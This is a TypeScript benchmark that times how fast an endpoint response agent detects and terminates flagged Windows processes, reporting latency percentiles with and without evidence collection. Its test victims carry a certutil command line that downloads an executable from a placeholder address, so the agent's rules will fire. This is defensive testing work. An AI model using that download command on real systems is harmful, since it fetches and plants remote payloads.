import { mkdtempSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { leaveOutMiddleCompiler, leaveProcessorsFree, saveMemory } from '../src/agent/collection.ts';
import { openEngine } from '../src/agent/engine.ts';
import { openLiveResponse } from '../src/agent/response-desk.ts';
import { type Config, loadConfig } from '../src/config/index.ts';
import { type Action, type ProcessPort, type ResponseJournal, ResponseStage } from '../src/response/index.ts';
import { EtwSource } from '../src/source/etw.ts';
import { Store } from '../src/store/index.ts';
import { defaultFfi, ProcessControl } from '../src/windows/index.ts';
import { DoubleScript } from '../test/windows/live/double-script.ts';
import { LookAlike } from '../test/windows/live/look-alike.ts';
import { openTestLibrary } from '../test/windows/live/open-test-library.ts';
import { FlushedPage } from './flushed-page.ts';

/**
 * How long a flagged process lives after its start is in the library's ring: through reader thread, decoding,
 * model, rules, guard and journal until TerminateProcess has returned and the process is gone. Real processes
 * with their true identity, told by the double of ETW, one after the other; without evidence, then with it.
 * Of what that takes, `journal_flush` is the one write that an act waits for, and `disk_flush` what the disk takes for
 * a page at the same time, whoever asks: the difference between two runs may be no more than that.
 * `node test/windows/bench.ts response-live`, under Wine on Linux. PC_BENCH_VICTIMS: how many of each (300).
 * PC_BENCH_FOLDER: where the journal is, such as a disk of its own (the system's temporary folder).
 */
const victims = Number(process.env['PC_BENCH_VICTIMS'] ?? 300);
const root = process.env['PC_BENCH_FOLDER'] ?? tmpdir();
/** In the first ones the code is compiled and the reader thread starts. */
const warmUp = 20;
const spacingMs = 100;
const patienceMs = 20_000;
const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\users\\public\\a.exe'];
/** Finer than the agent's own, whose outcomes are in whole milliseconds. */
const clock = { nowMs: () => performance.timeOrigin + performance.now() };

/**
 * In their order: decided, library asked about the process, it has answered, the guard as well, the journal's line is
 * on the disk, the process stands still for its evidence, library told to end it, TerminateProcess has returned.
 */
const stages = ['decided', 'asked', 'looked', 'judged', 'written', 'stopped', 'called', 'ended'] as const;
type Stage = (typeof stages)[number];
type CallTimes = { readonly [stage in Exclude<Stage, 'decided'>]?: number };

leaveOutMiddleCompiler();
saveMemory();
leaveProcessorsFree();
const library = await openTestLibrary(defaultFfi());
const control = new ProcessControl(library);
const etw = new DoubleScript('etw');

await measure('without_evidence', null);
await measure('with_evidence', mkdtempSync(join(root, 'evidence-')));

async function measure(name: string, evidenceFolder: string | null): Promise<void> {
  const folder = mkdtempSync(join(root, 'response-live-'));
  const config = armed(join(folder, 'state.db'), evidenceFolder);
  const ringMs = new Map<number, number>();
  const ends = new Map<number, Action>();
  const response = openLiveResponse({
    config: () => config,
    exceptions: () => engine.stages.exceptions.current,
    library,
    clock,
    audience: {
      action: (action) => void ends.set(action.subject.target?.pid ?? 0, action),
      stoodDown: ({ reason }) => fail(`stood down: ${reason}`),
      failed: (what, error) => fail(`${what}: ${String(error)}`),
    },
  });
  const calls = new Map<number, CallTimes>();
  observeJournal(response.journal, calls);
  const stage = new ResponseStage({
    ...response.parts,
    control: observeCalls(response.parts.control, calls),
    // The victims are this program's children, which the agent would leave alone as its own.
    own: () => ({ pid: 0, ancestorPids: new Set() }),
  });
  const store = Store.open(config.state.file!);
  const engine = await openEngine(config, store, { explains: () => true, response: stage });
  await stage.start();
  const source = new EtwSource(
    { library, host: { id: undefined, name: hostname() }, onNotice: () => undefined, clock },
    (record, arrivalUs) => {
      if (record.kind === 'start') ringMs.set(record.pid ?? 0, record.timeMs + arrivalUs / 1_000);
    },
  );
  const stop = new AbortController();
  const reading = (async () => {
    for await (const batch of source.batches({ batchSize: 512, signal: stop.signal })) {
      const outcome = await engine.pipeline.process(source.name, batch);
      stage.learn(outcome);
    }
  })();
  etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
  const delaysMs = Object.fromEntries(stages.map((each) => [each, [] as number[]])) as Record<
    Stage,
    number[]
  >;
  const journalFlushMs: number[] = [];
  const diskFlushMs: number[] = [];
  const page = new FlushedPage(folder);
  for (let index = 0; index < warmUp + victims; index++) {
    const victim = new LookAlike('certutil.exe', attack);
    try {
      await victim.sayStart(etw, control);
      for (const endMs = performance.now() + patienceMs; !ends.has(victim.pid); ) {
        if (performance.now() > endMs) fail('a process was not acted on');
        await wait(5);
      }
      const { atMs, end } = ends.get(victim.pid)!;
      if (end?.result !== 'terminated') fail(`not ended but ${JSON.stringify(end)}`);
      if (index < warmUp) continue;
      const startMs = ringMs.get(victim.pid)!;
      delaysMs.decided.push(atMs - startMs);
      const times = calls.get(victim.pid)!;
      for (const [stage, timeMs] of Object.entries(times)) delaysMs[stage as Stage].push(timeMs - startMs);
      journalFlushMs.push(times.written! - times.judged!);
    } finally {
      victim.kill();
      // A pid may come again.
      ends.clear();
      ringMs.clear();
      calls.clear();
    }
    // The bundle of one is written before the next begins: policies allow five actions a minute, not ten a second.
    await stage.settle();
    await wait(spacingMs / 2);
    if (index >= warmUp) diskFlushMs.push(page.flush());
    await wait(spacingMs / 2);
  }
  page.close();
  stop.abort();
  await reading;
  await stage.settle();
  response.close();
  await engine.scorer.close();
  store.close();
  report(`${name}.processes`, delaysMs.ended.length, '');
  for (const [what, values] of Object.entries(delaysMs)) reportSpread(`${name}.ring_to_${what}`, values);
  reportSpread(`${name}.journal_flush`, journalFlushMs);
  reportSpread(`${name}.disk_flush`, diskFlushMs);
}

/** Notes when the guard had judged, which is when the journal is asked, and when the journal had written. */
function observeJournal(journal: ResponseJournal, calls: Map<number, CallTimes>): void {
  const begin = journal.begin.bind(journal);
  journal.begin = (action, holds) => {
    const judged = clock.nowMs();
    const isNew = begin(action, holds);
    const pid = action.subject.target?.pid ?? 0;
    calls.set(pid, { ...calls.get(pid), judged, written: clock.nowMs() });
    return isNew;
  };
}

/** Notes when the library was asked about a process and answered, and when TerminateProcess had returned there. */
function observeCalls(port: ProcessPort, calls: Map<number, CallTimes>): ProcessPort {
  return {
    async query(target) {
      const result = await port.query(target);
      calls.set(target.pid, { ...calls.get(target.pid), looked: clock.nowMs() });
      return result;
    },
    look(target) {
      const asked = clock.nowMs();
      const result = port.look(target);
      calls.set(target.pid, { asked, looked: clock.nowMs() });
      return result;
    },
    suspend: (target) => port.suspend(target),
    freeze(target) {
      const result = port.freeze(target);
      calls.set(target.pid, { ...calls.get(target.pid)!, stopped: clock.nowMs() });
      return result;
    },
    resume: (target) => port.resume(target),
    terminateTree: (target) => port.terminateTree(target),
    tree: (target) => port.tree(target),
    terminate(target) {
      const called = clock.nowMs();
      // By then it is told to end; that it is gone is waited for.
      const ending = port.terminate(target);
      calls.set(target.pid, { ...calls.get(target.pid)!, called, ended: clock.nowMs() });
      return ending;
    },
  };
}

/** Terminates, with a budget that this many processes do not use up. */
function armed(stateFile: string, evidenceFolder: string | null): Config {
  const { config } = loadConfig({ env: {} });
  const { response, state } = config;
  return {
    ...config,
    state: { ...state, file: stateFile },
    response: {
      ...response,
      mode: 'terminate',
      budget: { perMinute: 1_000, perHour: 10_000, perUser: 10_000, perImage: 10_000 },
      evidence: { ...response.evidence, folder: evidenceFolder },
    },
  };
}

function fail(why: string): never {
  throw new Error(why);
}

/** Of nothing, nothing. */
function reportSpread(name: string, values: readonly number[]): void {
  if (values.length === 0) return;
  const sorted = Float64Array.from(values).sort();
  for (const part of [0.5, 0.9, 0.99]) {
    report(`${name}_p${part * 100}`, sorted[Math.floor(sorted.length * part)]!, 'ms');
  }
  report(`${name}_max`, sorted.at(-1)!, 'ms');
}

function report(name: string, value: number, unit: string): void {
  const rounded = Number.isInteger(value) ? value : Number(value.toPrecision(3));
  process.stdout.write(`${JSON.stringify({ name: `response-live.${name}`, value: rounded, unit })}\n`);
}
